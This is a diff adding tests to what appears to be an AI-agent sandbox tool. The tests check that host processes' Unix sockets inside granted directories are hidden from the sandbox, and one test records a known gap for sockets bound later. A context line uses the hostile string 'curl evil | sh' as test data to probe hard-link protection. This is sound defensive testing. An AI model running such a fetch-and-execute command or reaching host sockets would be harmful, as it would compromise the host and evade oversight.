@@ -542,3 +542,151 @@ def test_hardlinked_file_in_protected_dir_refused(ctx):
     r = ctx.sandbox("echo 'curl evil | sh' >> h.txt; true")
     assert r.returncode == 125 and "hard links" in r.stderr, describe(r)
     assert "evil" not in open(hook).read(), "a protected hook was written through a hard link"
+
+
+# ------------------------------------------------------- host unix sockets
+
+class _HostSocket:
+    """A host process's socket (this test process is the host): a stream
+    listener that answers every connection with its tag, or a bound datagram
+    socket that counts what it receives."""
+
+    def __init__(self, ctx, path, dgram=False, bind_as=None):
+        import socket
+        import threading
+        self.path, self.got = path, []
+        self.s = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM if dgram else socket.SOCK_STREAM)
+        self.s.bind(bind_as or path)
+        os.chmod(path, 0o777)  # without the mask, any user could connect
+        ctx.on_cleanup(self.close)
+        if not dgram:
+            self.s.listen(8)
+        self.s.settimeout(0.2)
+        self.stop = False
+        self.t = threading.Thread(target=self._serve, args=(dgram,), daemon=True)
+        self.t.start()
+
+    def _serve(self, dgram):
+        while not self.stop:
+            try:
+                if dgram:
+                    self.got.append(self.s.recv(100))
+                else:
+                    c, _ = self.s.accept()
+                    c.sendall(b"HOST-DAEMON\n")
+                    c.close()
+            except OSError:
+                continue
+
+    def close(self):
+        self.stop = True
+        self.t.join(2)
+        self.s.close()
+
+
+_SOCK_PY = r'''
+import json, os, socket, sys
+out = {}
+def try_stream(p):
+    s = socket.socket(socket.AF_UNIX)
+    s.settimeout(3)
+    try:
+        s.connect(p)
+        return "connected: %r" % s.recv(100)
+    except OSError as e:
+        return "refused: %s" % e.strerror
+    finally:
+        s.close()
+for p in sys.argv[2:]:
+    out[p] = try_stream(p)
+d = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
+try:
+    d.sendto(b"from-inside", sys.argv[1])
+    out["dgram"] = "sent"
+except OSError as e:
+    out["dgram"] = "refused: %s" % e.strerror
+# a socket of the sandbox's own, in the workspace: works
+own = os.path.join(os.getcwd(), "own.sock")
+l = socket.socket(socket.AF_UNIX)
+l.bind(own)
+l.listen(1)
+c = socket.socket(socket.AF_UNIX)
+c.connect(own)
+a, _ = l.accept()
+a.sendall(b"own")
+out["own"] = c.recv(10).decode()
+os.unlink(own)
+print(json.dumps(out))
+'''
+
+
+def test_host_unix_sockets_hidden(ctx):
+    """A host process's unix socket inside a grant (the workspace, a
+    read-only grant, reached through a symlinked directory) is hidden: the
+    sandbox cannot connect to it or send to it, while its own sockets in the
+    workspace work; explain lists them; the host's sockets are untouched."""
+    state = os.path.join(ctx.scratch, "state")
+    os.makedirs(state)
+    real = os.path.join(ctx.ws, "real")
+    os.makedirs(real)
+    os.symlink("real", os.path.join(ctx.ws, "link"))
+    for d in (state, real):
+        os.chmod(d, 0o755)
+        if ctx.uid:
+            os.chown(d, ctx.uid, ctx.gid)
+    ws_sock = _HostSocket(ctx, os.path.join(ctx.ws, "daemon.sock"))
+    dg = _HostSocket(ctx, os.path.join(state, "dgram.sock"), dgram=True)
+    _HostSocket(ctx, os.path.join(real, "l.sock"), bind_as=os.path.join(ctx.ws, "link", "l.sock"))
+    targets = [ws_sock.path, os.path.join(ctx.ws, "link", "l.sock"), os.path.join(real, "l.sock")]
+    r = ctx.sandbox([INNER_PY, "-c", _SOCK_PY, dg.path] + targets, extra_args=["--read", state])
+    assert r.returncode == 0, describe(r)
+    out = json.loads(r.stdout.strip().splitlines()[-1])
+    problems = ["%s: %s" % (p, out[p]) for p in targets if not out[p].startswith("refused")]
+    if out["dgram"] != "sent" and not out["dgram"].startswith("refused"):
+        problems.append("datagram: %s" % out["dgram"])
+    time.sleep(0.3)
+    if dg.got:
+        problems.append("the host's datagram socket received %r from inside" % dg.got)
+    if out["own"] != "own":
+        problems.append("the sandbox's own socket in the workspace: %r" % out["own"])
+    e = ctx.run(["explain", "-p", "default", "-w", ctx.ws, "--read", state])
+    for p in (ws_sock.path, dg.path, os.path.join(real, "l.sock")):
+        if p not in e.stdout:
+            problems.append("explain does not list %s" % p)
+    import socket
+    s = socket.socket(socket.AF_UNIX)
+    s.connect(ws_sock.path)
+    if s.recv(100) != b"HOST-DAEMON\n":
+        problems.append("the host's own socket stopped working")
+    s.close()
+    assert not problems, "\n".join(problems) + "\n" + describe(r)
+
+
+@known_gap("a socket a host process binds inside a grant after the sandbox started is not "
+           "hidden (agentbox hides the sockets bound when it starts; docs/threat-model.md)")
+def test_host_unix_socket_bound_later(ctx):
+    """The sandbox waits for a host process to bind a socket in the workspace
+    after it started, then connects to it."""
+    path = os.path.join(ctx.ws, "later.sock")
+    go = os.path.join(ctx.ws, "go")
+    code = ("import os, socket, time\n"
+            "for _ in range(100):\n"
+            "    if os.path.exists(%r): break\n"
+            "    time.sleep(0.1)\n"
+            "s = socket.socket(socket.AF_UNIX)\n"
+            "try:\n"
+            "    s.connect(%r); print('connected', s.recv(100))\n"
+            "except OSError as e:\n"
+            "    print('refused', e.strerror)\n" % (go, path))
+    import threading
+    res = {}
+    t = threading.Thread(target=lambda: res.setdefault("r", ctx.sandbox([INNER_PY, "-c", code])))
+    t.start()
+    time.sleep(1.5)
+    _HostSocket(ctx, path)
+    ctx.host_file(go, "")
+    t.join(60)
+    r = res["r"]
+    assert r.returncode == 0, describe(r)
+    assert "refused" in r.stdout, "the sandbox reached a host socket bound after it " \
+        "started: %s" % r.stdout.strip()
